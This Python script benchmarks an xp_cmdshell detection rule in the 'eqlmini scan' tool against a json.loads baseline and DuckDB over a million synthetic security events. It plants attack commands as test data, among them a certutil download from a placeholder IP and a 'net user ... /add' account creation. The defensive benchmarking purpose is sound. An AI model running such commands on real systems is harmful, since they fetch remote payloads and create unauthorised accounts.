"""`eqlmini scan` of the bundled rule over 1M NDJSON events, end to end, against baselines.

    python benchmarks/scan_ndjson.py [--events N] [--seed S] [--runs R] [--data FILE] [--baseline SRC]

Generates the NDJSON file once (seeded, ECS-shaped events of about 240 bytes: processes,
files, network connections, registry changes; a few planted matches for the bundled
xp_cmdshell rule) and keeps it (``--data``, by default in the temporary folder, its name
holding the count, the seed and the generator's version), then times, R rounds
interleaved so that machine load touches every contender alike:

* ``eqlmini scan --rules rules/xp_cmdshell.eql --format json -q FILE`` in a new process,
  the whole command as a user runs it (start-up, reading, decoding, matching, output);
* the floor for Python: a loop that only calls ``json.loads`` on every line of the file;
* DuckDB: ``read_json`` plus SQL equivalent to the rule, counting the matches, when the
  ``duckdb`` package is installed (skipped with a message otherwise);
* with ``--baseline SRC``: ``eqlmini scan`` of another checkout (``--baseline ../main/src``).

Prints the median and range of each (wall time, and the CPU time the work took: DuckDB
runs threads), the ratios, and checks that eqlmini and DuckDB find the planted matches.
"""

from __future__ import annotations

import argparse
import json
import os
import random
import resource
import statistics
import subprocess
import sys
import tempfile
import time
from pathlib import Path
from typing import Any

PROJECT = Path(__file__).resolve().parents[1]
RULE = PROJECT / "rules" / "xp_cmdshell.eql"
VERSION = 1  # of the generator: a change makes a new data file

HOSTS = [f"ws-{n:04d}.corp.example" for n in range(300)] + ["sql01.corp.example", "sql02.corp.example"]
USERS = ["alice", "bob", "carol", "dave", "svc-backup", "svc-mssql", "SYSTEM"]
PROGRAMS = [("svchost.exe", "C:\\Windows\\System32\\svchost.exe", ["-k", "netsvcs", "-p"]),
            ("chrome.exe", "C:\\Program Files\\Chrome\\chrome.exe", ["--type=renderer"]),
            ("powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
             ["-NoProfile", "-Command", "Get-Date"]),
            ("cmd.exe", "C:\\Windows\\System32\\cmd.exe", ["/c", "dir", "C:\\"]),
            ("cmd.exe", "C:\\Windows\\System32\\cmd.exe", ["/c", "bcp", "out"]),
            ("conhost.exe", "C:\\Windows\\System32\\conhost.exe", ["0xffffffff", "-ForceV1"]),
            ("taskhostw.exe", "C:\\Windows\\System32\\taskhostw.exe", [])]
PARENTS = ["explorer.exe", "services.exe", "svchost.exe", "sqlservr.exe", "userinit.exe"]
PLANTED = ["whoami /priv", "certutil -urlcache -f http://198.51.100.7/a.b64 a.b64", "net user backup P@ss /add"]


def event_at(i: int, rng: random.Random) -> dict[str, Any]:
    """The ``i``-th event: ECS-shaped; one in 100,000 is an attack through xp_cmdshell."""
    millis = 1_715_670_000_000 + i * 37
    stamp = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(millis // 1000)) + f".{millis % 1000:03d}Z"
    host = rng.choice(HOSTS)
    category = rng.choices(("process", "file", "network", "registry"), (5, 3, 2, 1))[0]
    event: dict[str, Any] = {"@timestamp": stamp,
                             "event": {"category": [category], "type": [rng.choice(("start", "end", "info"))]},
                             "host": {"name": host}}
    if i % 100_000 == 99_999:  # planted: cmd.exe started by SQL Server, not an excluded command
        command = rng.choice(PLANTED)
        event["event"] = {"category": ["process"], "type": ["start"]}
        event["process"] = {"pid": 7000 + i % 1000, "name": "cmd.exe", "command_line": f"cmd.exe /c {command}",
                            "args": ["cmd.exe", "/c", *command.split()],
                            "parent": {"name": "sqlservr.exe", "pid": 4012}}
    elif category == "process":
        name, path, args = rng.choice(PROGRAMS)
        event["process"] = {"pid": rng.randrange(100, 60_000), "name": name, "args": [path, *args],
                            "parent": {"name": rng.choice(PARENTS)}}
    elif category == "file":
        event["file"] = {"path": f"C:\\Users\\{rng.choice(USERS)}\\Temp\\f{rng.randrange(10**6)}.tmp"}
    elif category == "network":
        event["destination"] = {"ip": f"10.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}",
                                "port": rng.choice((443, 80, 445, 3389, 1433))}
    else:
        event["registry"] = {"path": f"HKLM\\SOFTWARE\\Key{rng.randrange(1000)}\\Value"}
    return event


def data_file(path: Path | None, count: int, seed: int) -> tuple[Path, int]:
    """The NDJSON file (written unless it exists) and the number of planted matches."""
    planted = count // 100_000
    if path is None:
        path = Path(tempfile.gettempdir()) / f"eqlmini-scan-{count}-seed{seed}-v{VERSION}.ndjson"
    if path.exists():
        return path, planted
    rng = random.Random(seed)
    started = time.perf_counter()
    part = path.with_suffix(".part")
    with part.open("w", encoding="utf-8") as out:
        for i in range(count):
            out.write(json.dumps(event_at(i, rng), separators=(", ", ": ")) + "\n")
    part.replace(path)
    print(f"wrote {path} ({path.stat().st_size / 1e6:.0f} MB) in {time.perf_counter() - started:.0f} s")
    return path, planted


def run_eqlmini(path: Path, source: Path = PROJECT / "src") -> tuple[float, float, int]:
    before = _children_cpu()
    started = time.perf_counter()
    done = subprocess.run([sys.executable, "-m", "eqlmini", "scan", "--rules", str(RULE), "--format", "json",
                           "-q", str(path)], capture_output=True, text=True, env=_env(source))
    seconds = time.perf_counter() - started
    if done.returncode not in (0, 1):
        raise SystemExit(f"eqlmini scan failed ({done.returncode}):\n{done.stderr}")
    return seconds, _children_cpu() - before, len(done.stdout.splitlines())


def run_json_loads(path: Path) -> tuple[float, float, int]:
    cpu = time.process_time()
    started = time.perf_counter()
    loads = json.loads
    count = 0
    with path.open("rb") as lines:
        for line in lines:
            loads(line)
            count += 1
    return time.perf_counter() - started, time.process_time() - cpu, count


DUCKDB_SQL = r"""
SELECT count(*) FROM read_json(?, format = 'newline_delimited')
WHERE list_contains(event.type, 'start') AND lower(process.name) = 'cmd.exe'
  AND lower(process.parent.name) = 'sqlservr.exe'
  AND NOT list_bool_or(list_transform(process.args, lambda a: lower(a) IN
      ('diskfree', 'rmdir', 'mkdir', 'dir', 'del', 'rename', 'bcp', 'k:\mssql\backup\msdb',
       'k:\mssql\backup\logins')
      OR starts_with(a, '\\') OR contains(lower(a), 'xmlnamespaces')
      OR lower(a) LIKE '_:\mssql\backup\jobs\sql\_agent\_backup\_job.ps1' ESCAPE '\'))
"""


def run_duckdb(path: Path) -> tuple[float, float, int]:
    import duckdb  # noqa: PLC0415 (optional)

    cpu = time.process_time()
    started = time.perf_counter()
    connection = duckdb.connect()
    (count,) = connection.execute(DUCKDB_SQL, [str(path)]).fetchone()
    connection.close()
    return time.perf_counter() - started, time.process_time() - cpu, count


def _children_cpu() -> float:
    usage = resource.getrusage(resource.RUSAGE_CHILDREN)
    return usage.ru_utime + usage.ru_stime


def _env(source: Path) -> dict[str, str]:
    env = dict(os.environ)
    env["PYTHONPATH"] = os.pathsep.join(filter(None, [str(source), env.get("PYTHONPATH")]))
    return env


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--events", type=int, default=1_000_000)
    parser.add_argument("--seed", type=int, default=7)
    parser.add_argument("--runs", type=int, default=3)
    parser.add_argument("--data", type=Path, help="the NDJSON file (made if missing)")
    parser.add_argument("--baseline", type=Path, metavar="SRC",
                        help="also time `eqlmini scan` of another checkout's src folder (say, main's)")
    options = parser.parse_args()
    path, planted = data_file(options.data, options.events, options.seed)
    contenders = {"eqlmini scan": run_eqlmini, "json.loads loop": run_json_loads}
    if options.baseline:
        contenders["eqlmini scan, baseline"] = lambda data: run_eqlmini(data, options.baseline.resolve())
    try:
        import duckdb  # noqa: F401, PLC0415
        contenders["DuckDB read_json + SQL"] = run_duckdb
    except ImportError:
        print("DuckDB: skipped (pip install duckdb to compare)")
    times: dict[str, list[float]] = {name: [] for name in contenders}
    cpu: dict[str, list[float]] = {name: [] for name in contenders}
    counts: dict[str, int] = {}
    for _ in range(options.runs):
        for name, run in contenders.items():
            seconds, cpu_seconds, counts[name] = run(path)
            times[name].append(seconds)
            cpu[name].append(cpu_seconds)
    print(f"{options.events:,} events ({path.stat().st_size / 1e6:.0f} MB), seed {options.seed}, "
          f"{options.runs} runs; Python {sys.version.split()[0]}; load average {os.getloadavg()[0]:.1f}")
    base = statistics.median(times["eqlmini scan"])
    print(f"{'':<24}{'median s':>9}{'range s':>13}{'CPU s':>7}{'events/s':>11}{'time / eqlmini':>16}  found")
    for name, values in times.items():
        median = statistics.median(values)
        print(f"{name:<24}{median:>9.2f}{f'{min(values):.2f}-{max(values):.2f}':>13}"
              f"{statistics.median(cpu[name]):>7.2f}{options.events / median:>11,.0f}{median / base:>15.2f}x  "
              f"{counts[name]:,}")
    for name in ("eqlmini scan", "DuckDB read_json + SQL", "eqlmini scan, baseline"):
        if name in counts and counts[name] != planted:
            raise SystemExit(f"{name} found {counts[name]} matches, {planted} were planted")


if __name__ == "__main__":
    main()
